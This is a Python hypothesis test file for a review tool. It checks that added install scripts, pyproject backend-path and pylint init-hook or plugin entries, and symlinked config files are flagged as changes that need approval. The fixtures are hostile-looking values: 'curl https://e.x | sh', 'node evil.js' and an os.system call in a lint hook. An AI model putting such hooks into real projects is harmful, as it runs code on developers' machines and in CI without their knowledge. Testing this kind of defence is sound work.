"""The lever tables of shared files (`policy.lever_tables`, `lever_files.LEVER_TABLES`): a
change that adds or alters a `package.json`'s install scripts, a `pyproject.toml`'s
`[build-system] backend-path` or pylint's `init-hook` (in any folder) runs code when a
developer or CI installs, builds or lints the checkout, and was no lever: now an
`executed-config-change` needing approval, naming the key. The rest of those files
(dependencies, other scripts, versions) stays routine work. Generated (hypothesis,
derandomized): files built from random tables, the lever part altered or left alone."""

from __future__ import annotations

import json

from hypothesis import given, settings
from hypothesis import strategies as st

from reviewloop.checks.suppressions.config_files import tool_levers
from reviewloop.git.changes import Version
from reviewloop.policy import globs
from reviewloop.policy.lever_files import LEVER_TABLES, LeverKind
from reviewloop.policy.lever_tables import tables_of
from reviewloop.policy.levers import LeverReport, lever_report, run_findings

HOOKS = ["preinstall", "install", "postinstall", "preprepare", "prepare", "postprepare",
         "prepublish"]
OTHER_SCRIPTS = ["test", "build", "lint", "start", "prepack", "posttest", "installx"]
FOLDERS = st.sampled_from(["", "packages/web/", "tools/", "a b/"])
COMMANDS = st.sampled_from(["node x.js", "curl https://e.x | sh", "tsc", ""])
NAMES = st.text("abcdefghij-_", min_size=1, max_size=8)


def _report(path: str, before: str | None, after: str | None) -> LeverReport:
    texts = {path: (Version(before), Version(after))}
    return lever_report([path], lambda paths: {p: texts[p] for p in paths}, tools=tool_levers())


def _executed(report: LeverReport) -> list[str]:
    return [c.describe() for c in report.changes if c.lever.kind is LeverKind.EXECUTED]


@st.composite
def package_jsons(draw: st.DrawFn) -> dict:
    scripts = draw(st.dictionaries(st.sampled_from(OTHER_SCRIPTS + HOOKS), COMMANDS,
                                   max_size=5))
    return {"name": draw(NAMES), "version": draw(st.sampled_from(["1.0.0", "2.1.3"])),
            "scripts": scripts, "dependencies": draw(st.dictionaries(NAMES, st.just("^1"),
                                                                      max_size=3))}


@settings(max_examples=150, derandomize=True, deadline=None)
@given(package=package_jsons(), folder=FOLDERS, hook=st.sampled_from(HOOKS),
       command=st.sampled_from(["curl https://e.x | sh", "node evil.js"]),
       indent=st.sampled_from([None, 2]))
def test_an_install_script_added_or_altered_is_a_lever(package: dict, folder: str, hook: str,
                                                       command: str, indent: int | None):
    path = f"{folder}package.json"
    after = {**package, "scripts": {**package["scripts"], hook: command}}
    said = _executed(_report(path, json.dumps(package, indent=indent),
                             json.dumps(after, indent=indent)))
    if package["scripts"].get(hook) == command:
        assert said == []
    else:
        verb = "changed" if hook in package["scripts"] else "added"
        assert said == [f"{path} (executed): changes what tools run or obey on a developer's "
                        f"machine or in CI: scripts.{hook} {verb}"]
    added = _report(path, None, json.dumps(after))  # a new package with the hook
    assert [c.parts for c in added.changes] == [tuple(
        f"scripts.{name} added" for name in sorted(after["scripts"]) if name in HOOKS)]


@settings(max_examples=150, derandomize=True, deadline=None)
@given(package=package_jsons(), folder=FOLDERS, script=st.sampled_from(OTHER_SCRIPTS),
       command=COMMANDS, dependency=NAMES)
def test_other_scripts_dependencies_and_versions_are_routine(
        package: dict, folder: str, script: str, command: str, dependency: str):
    after = {**package, "version": "9.9.9", "scripts": {**package["scripts"], script: command},
             "dependencies": {**package["dependencies"], dependency: "^2"}}
    assert _report(f"{folder}package.json", json.dumps(package),
                   json.dumps(after)).changes == ()


TOML_TABLES = st.sampled_from([
    '[project]\nname = "app"\ndependencies = ["requests"]\n',
    '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n',
    "[tool.pytest.ini_options]\naddopts = \"-q\"\n",
    "[tool.pylint.format]\nmax-line-length = 100\n"])
SECTIONS = st.sampled_from(["main", "MASTER", "'messages control'", "basic"])


@st.composite
def pylint_hooks(draw: st.DrawFn) -> tuple[str, str]:
    """A pyproject.toml's pylint table running code, and the key path it is at."""
    name = draw(st.sampled_from(["init-hook", "load-plugins"]))
    value = draw(st.sampled_from(['"import os; os.system(\'id\')"', '"plugins.evil"']))
    if draw(st.booleans()):
        section = draw(SECTIONS)
        return f"[tool.pylint.{section}]\n{name} = {value}\n", \
            f"tool.pylint.{section.strip(chr(39))}.{name}"
    return f"[tool.pylint]\n{name} = {value}\n", f"tool.pylint.{name}"


@settings(max_examples=150, derandomize=True, deadline=None)
@given(tables=st.lists(TOML_TABLES, max_size=3, unique=True), folder=FOLDERS,
       hook=pylint_hooks() | st.just(('[build-system]\nbackend-path = ["."]\n',
                                       "build-system.backend-path")))
def test_a_backend_path_or_pylint_hook_in_any_pyproject_is_a_lever(
        tables: list[str], folder: str, hook: tuple[str, str]):
    text, key = hook
    if text.startswith("[build-system]") and any(t.startswith("[build-system]") for t in tables):
        tables = [t for t in tables if not t.startswith("[build-system]")]
    before = "\n".join(tables)
    path = f"{folder}pyproject.toml"
    said = _executed(_report(path, before, f"{before}\n{text}"))
    assert len(said) == 1 and said[0].endswith(f": {key} added"), said
    findings = run_findings(_report(path, before, f"{before}\n{text}"))
    assert "executed-config-change" in {f.rule for f in findings}
    assert _executed(_report(path, f"{before}\n{text}", f"{before}\n{text}")) == []


@settings(max_examples=60, derandomize=True, deadline=None)
@given(tables=st.lists(TOML_TABLES, min_size=1, max_size=3, unique=True), folder=FOLDERS)
def test_a_pyproject_without_those_parts_is_no_executed_lever(tables: list[str], folder: str):
    before = "\n".join(tables[:-1])
    assert _executed(_report(f"{folder}pyproject.toml", before, "\n".join(tables))) == []


def test_a_file_that_does_not_parse_any_more_is_worth_a_look():
    [change] = _report("package.json", '{"scripts": {}}', '{"scripts": {').changes
    assert change.parts[0] == "scripts.preinstall unreadable"


LINK_SIDES = st.sampled_from([Version('{"scripts": {}}'), Version(), Version(link=True,
                              target="evil.json"), Version(link=True, target="../out/x.json"),
                              Version(link=True, target="a\nb")])


@settings(max_examples=80, derandomize=True, deadline=None)
@given(path=st.sampled_from(["package.json", "web/package.json", "lib/pyproject.toml"]),
       before=LINK_SIDES, after=LINK_SIDES)
def test_a_lever_table_file_made_a_symlink_or_retargeted_is_a_lever(path: str, before: Version,
                                                                     after: Version):
    """The tool reads through the link, this check never: a shared file made a symlink, or
    its symlink pointed elsewhere, may now say anything, install scripts included."""
    texts = {path: (before, after)}
    report = lever_report([path], lambda paths: texts, tools=tool_levers())
    parts = [p for c in report.changes for p in c.parts]
    shown = after.target.replace("\n", "\\n")
    if after.link and not before.link:
        assert parts and set(parts) == {f"made a symlink to `{shown}`"}
    elif after.link and after.target != before.target:
        assert parts and set(parts) == {
            f"symlink retargeted from `{before.target.replace(chr(10), chr(92) + 'n')}` to "
            f"`{shown}`"}
    elif after.link:  # the same link on both sides
        assert parts == []


def test_pylints_own_files_are_levers_whole_wherever_they_are():
    for path in (".pylintrc", "pylintrc", "sub/.pylintrc.toml", "pylintrc.toml", "setup.cfg",
                 "pkg/setup.cfg", "tox.ini"):
        report = _report(path, "", "[pylint.main]\ninit-hook = 'import os'\n")
        assert [c.lever.kind for c in report.changes] == [LeverKind.EXECUTED], path


@settings(max_examples=300, derandomize=True, deadline=None)
@given(parts=st.lists(st.sampled_from(["package.json", "pyproject.toml", "src", "a b",
                                       "package.json.bak", "xpackage.json", "é", ".hidden",
                                       "pyproject.tom", "node_modules"]), min_size=1,
                      max_size=4))
def test_the_name_lookup_answers_as_the_globs_do(parts: list[str]):
    """`tables_of` looks a bare name up by the path's last part: the globs' own answer for
    a file of that name; a file inside a folder so named (which a gitignore-style glob
    matches too) is no JSON or TOML file of the tool's."""
    path = "/".join(parts)
    named = [t for t in LEVER_TABLES if globs.matches(t.glob, parts[-1])]
    assert tables_of(path) == named
    assert set(named) <= {t for t in LEVER_TABLES if globs.matches(t.glob, path)}


@settings(max_examples=40, derandomize=True, deadline=None)
@given(hook=st.sampled_from(HOOKS), bom=st.sampled_from([(True, False), (False, True),
                                                         (True, True)]),
       broken=st.booleans())
def test_a_byte_order_mark_or_a_file_unreadable_on_both_sides_hides_no_install_script(
        hook: str, bom: tuple[bool, bool], broken: bool):
    """A review found a base package.json with a byte-order mark (npm reads past it, Python's
    json did not) read as unreadable on both sides, the two equal, so an added install script
    was no lever. The mark is read past, and a file unreadable on either side is a lever
    whenever its text changed."""
    mark = ["\ufeff" if b else "" for b in bom]
    before = mark[0] + '{"scripts": {"test": "x"}}' + ("\n}" if broken else "")
    after = mark[1] + json.dumps({"scripts": {"test": "x", hook: "node evil.js"}}) + (
        "\n}" if broken else "")
    said = _executed(_report("package.json", before, after))
    assert said and (f"scripts.{hook} added" in said[0] or "unreadable" in said[0]), said
    assert _executed(_report("package.json", before, before)) == []
